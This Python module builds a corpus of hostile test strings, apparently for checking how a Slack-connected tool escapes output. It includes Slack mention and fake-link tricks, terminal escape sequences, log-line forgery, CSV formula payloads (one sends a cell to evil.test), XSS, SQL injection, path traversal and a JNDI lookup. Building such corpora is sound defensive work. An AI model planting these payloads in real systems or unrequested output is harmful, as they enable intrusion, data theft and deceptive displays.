"""Text that tries to be more than text, by what it would do where somebody forgot to make it harmless."""

from __future__ import annotations

ESC, BEL, CSI, OSC, ST = "\x1b", "\x07", "\x9b", "\x9d", "\x9c"

MRKDWN = {
    "mentions the channel": "<!channel>",
    "mentions everybody": "<!everyone> <!here>",
    "mentions a group": "<!subteam^S0GROUP|@oncall>",
    "mentions a person": "<@U0ADA> <@W0ADA|ada>",
    "links a channel": "<#C0GENERAL|general>",
    "a link that says something else": "<https://evil.test/login|https://example.com/login>",
    "a mail link": "<mailto:ada@evil.test|write to us>",
    "a phone link": "<tel:+15555550100|call>",
    "a bare link": "see https://evil.test/a?b=c now",
    "a link without a scheme": "www.evil.test/path",
    "a link in upper case": "HTTPS://EVIL.TEST/",
    "a date that lies": "<!date^0^{date_long}|today>",
    "already escaped markup": "&lt;!channel&gt; &amp;lt;!here&amp;gt;",
    "half escaped markup": "&lt;!channel>",
    "full-width brackets": "\uff1c!channel\uff1e",
    "a mention in pieces": "<!chan\u200bnel>",
    "a mention over lines": "<!\nchannel>",
    "bold, struck, italic": "*All clear* ~gone~ _nothing found_",
    "code that never closes": "``` everything after this is code",
    "inline code that never closes": "` and so on",
    "a quotation": ">>> said by somebody else",
    "an emoji that says all is well": ":white_check_mark: verified :rotating_light:",
    "a list": "\u2022 one\n\u2022 two\n1. three",
    "an empty-looking text": "\u3164\u2800\u200b",
    "the name of a button": "Re-Run",
    "markdown of another kind": "[click](https://evil.test) ![x](https://evil.test/x.png)",
    "a heading": "# All clear\n## Nothing found",
}
BLOCK_KIT = {
    "the end of a JSON string": '"}]}, {"type": "image", "image_url": "https://evil.test/x.png"}',
    "a block": '{"type":"section","text":{"type":"mrkdwn","text":"<!channel>"}}',
    "a backslash at the end": "ends with \\",
    "an escaped quotation mark": '\\"}],"blocks":[',
    "a button value of ours": "1|cancel|abcdefgh|1||0123456789abcdef0123456789abcdef",
    "a long line": "A" * 20_000,
    "many lines": "line\n" * 5000,
    "many code points in few letters": "a" + "\u0301" * 3000,
    "astral letters": "\U0001f9d1\u200d" * 3000,
    "half a surrogate pair": "\ud83d",
    "the other half": "\ude00 x",
    "a NUL": "before\x00after",
    "a template": "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
    "a format string": "%s %d %(name)s {0} {target.__class__}",
    "a look-up": "${jndi:ldap://evil.test/a}",
}
TERMINAL = {
    "colours": f"{ESC}[31mred{ESC}[0m",
    "the window's title": f"{ESC}]0;owned{BEL}",
    "a link of the terminal's": f"{ESC}]8;;https://evil.test{ESC}\\click{ESC}]8;;{ESC}\\",
    "the clipboard": f"{ESC}]52;c;ZXZpbA=={BEL}",
    "clears the screen": f"{ESC}[2J{ESC}[H",
    "moves up and writes over": f"{ESC}[1A{ESC}[2KEvery source answered.",
    "asks the terminal to answer": f"{ESC}[6n{ESC}[c{ESC}P+q544e{ESC}\\",
    "the same in single characters": f"{CSI}31m{OSC}0;owned{ST}",
    "an escape that never ends": f"{ESC}]0;" + "x" * 300,
    "a lone escape at the end": f"text{ESC}",
    "backspaces": "failed\b\b\b\b\b\bclean ",
    "a carriage return": "failed\rclean ",
    "bells and whistles": BEL * 20,
    "another character set": f"{ESC}(0lqqk{ESC}(B\x0e\x0f",
    "markup of the terminal's library": "[red]red[/red] [link=https://evil.test]x[/link] [/]",
    "right to left": "\u202emoc.elpmaxe\u202c",
    "isolates": "\u2066\u2067x\u2069\u2069",
    "tags": "\U000e0041\U000e0042",
    "a soft hyphen": "pay\u00adpal",
}
LOG = {
    "another line": 'x\n{"event": "all is well", "level": "info"}',
    "another line of Windows": "x\r\n2026-11-26 [info] all is well",
    "a line separator": 'x\u2028{"level": "error"}\u2029\x85',
    "the end of the entry": 'x", "level": "critical", "user": "U0ADA',
    "a vertical tab": "x\x0b\x0c\x1c\x1d\x1eall is well",
}
FORMULA = {
    "a formula": "=cmd|' /C calc'!A0",
    "a sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a plus": "+1+cmd|' /C calc'!A0",
    "a minus": "-2+3+cmd|' /C calc'!A0",
    "a formula behind a tab": "\t=1+1",
    "a formula behind a return": "\r=1+1",
    "a formula that fetches": '=HYPERLINK("https://evil.test/?"&A1,"click")',
    "a full-width formula": "\uff1d1+1",
    "a quoted cell": '","=1+1","',
    "a cell of another kind": ";=1+1;",
}
PAGE = {
    "a script": "<script>alert(1)</script>",
    "an image that fails": "<img src=x onerror=alert(1)>",
    "the end of an attribute": "\" onmouseover=alert(1) x='",
    "a script's address": "javascript:alert(1)",
    "a page within": "data:text/html,<script>alert(1)</script>",
    "the end of a comment": "--><svg/onload=alert(1)>",
}
STORE = {
    "the end of a statement": "'; DROP TABLE scan; --",
    "a wildcard": "% _ \\%",
    "a path": "../../../../etc/passwd",
    "a path of Windows": "..\\..\\CON:stream",
    "a name that hides": ".\u2024/x",
    "an option": "--output=/etc/passwd",
}
CORPUS: dict[str, str] = {
    f"{family}: {name}": text
    for family, texts in {
        "mrkdwn": MRKDWN,
        "block kit": BLOCK_KIT,
        "terminal": TERMINAL,
        "log": LOG,
        "formula": FORMULA,
        "page": PAGE,
        "store": STORE,
    }.items()
    for name, text in texts.items()
}
